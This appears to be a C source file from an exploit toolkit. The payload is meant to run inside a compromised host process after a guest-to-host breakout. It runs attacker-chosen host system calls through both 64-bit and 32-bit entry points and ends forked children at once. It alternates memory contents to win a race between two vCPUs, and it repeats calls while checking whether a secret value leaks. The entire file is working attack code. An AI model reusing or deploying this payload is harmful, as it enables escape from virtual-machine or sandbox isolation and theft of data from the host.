/* SPDX-License-Identifier: MIT */
/*
 * blob.c: the code that runs in a kernel process that has fallen. It makes the calls of the host
 * that a job asks for, so any attempt is a job, and no attempt needs code of its own.
 *
 * All functions are in one section, which agent.c copies to the hole: they refer to nothing outside
 * of it, and there is no data. There are two entries, so that two vCPUs can run jobs at once.
 */
#include <stddef.h>
#include <stdint.h>
#include <sys/syscall.h>

#include "blob.h"

#define BLOB __attribute__((section("blob"), noinline, used))

static BLOB long call_64(const struct job *j)
{
	register uint64_t r10 __asm__("r10") = j->args[3];
	register uint64_t r8 __asm__("r8") = j->args[4];
	register uint64_t r9 __asm__("r9") = j->args[5];
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(j->number), "D"(j->args[0]), "S"(j->args[1]), "d"(j->args[2]),
			 "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	return result;
}

/* Makes the call as a 32-bit program: the host reads 32-bit arguments and i386 call numbers. */
static BLOB long call_32(const struct job *j)
{
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(j->number), "b"(j->args[0]), "c"(j->args[1]), "d"(j->args[2]),
			 "S"(j->args[3]), "D"(j->args[4])
			 : "r8", "r9", "r10", "r11", "memory");
	return (int)result;
}

static BLOB long make_call(const struct job *j)
{
	long result = j->door == DOOR_INT80 ? call_32(j) : call_64(j);
	struct job end = { .number = SYS_exit_group };

	/*
	 * This is the child of a fork: it ends at once, since it would go on as a second kernel
	 * over the guest's memory.
	 */
	if (!result && j->door == DOOR_SYSCALL &&
		(j->number == SYS_fork || j->number == SYS_vfork || j->number == SYS_clone ||
			j->number == SYS_clone3))
		call_64(&end);
	return result;
}

static BLOB uint64_t copy(uint64_t to, uint64_t from, uint64_t n)
{
	for (uint64_t i = 0; i < n; i++)
		((volatile char *)to)[i] = ((volatile char *)from)[i];
	return n;
}

/*
 * Copies two pieces of memory to one address by turns, until the other vCPU's job has ended. A vCPU
 * in the hole runs nothing else, not even what would begin the other job: so the turns are counted.
 */
static BLOB uint64_t flip(struct job *j, volatile uint64_t *other_over, volatile uint64_t *over)
{
	uint64_t n;

	for (n = 0; n < j->times && !*other_over; n++)
		copy(j->args[0], j->args[1 + (n & 1)], j->args[3]);
	*over = 1;
	return n;
}

/* Makes the call again and again. Counts results: those that are negative, and the others. */
static BLOB uint64_t repeat(struct job *j, volatile uint64_t *over)
{
	j->good = j->bad = 0;
	for (uint64_t i = 0; i < j->times; i++) {
		struct job again = { .number = SYS_close };
		long r = make_call(j);

		if (r < 0) {
			j->bad++;
			continue;
		}
		j->good++;
		if (!j->reads)
			continue;
		again.number = SYS_preadv2;
		again.args[0] = (uint64_t)r;
		again.args[1] = j->vector;
		again.args[2] = 1;
		call_64(&again);
		if (*(volatile uint64_t *)j->reads == j->secret)
			j->found++;
		again.number = SYS_close;
		call_64(&again);
	}
	*over = 1;
	return j->good;
}

static BLOB uint64_t work(struct job *j, struct job *other)
{
	switch (j->kind) {
	case JOB_CALL: return (uint64_t)make_call(j);
	case JOB_COPY: return copy(j->args[0], j->args[1], j->args[2]);
	case JOB_FLIP: return flip(j, &other->over, &j->over);
	default: return repeat(j, &j->over);
	}
}

BLOB uint64_t blob_first(char *memory)
{
	return work((struct job *)(memory + JOB_AT), (struct job *)(memory + JOB_AT + JOB_ROOM));
}

BLOB uint64_t blob_second(char *memory)
{
	return work((struct job *)(memory + JOB_AT + JOB_ROOM), (struct job *)(memory + JOB_AT));
}
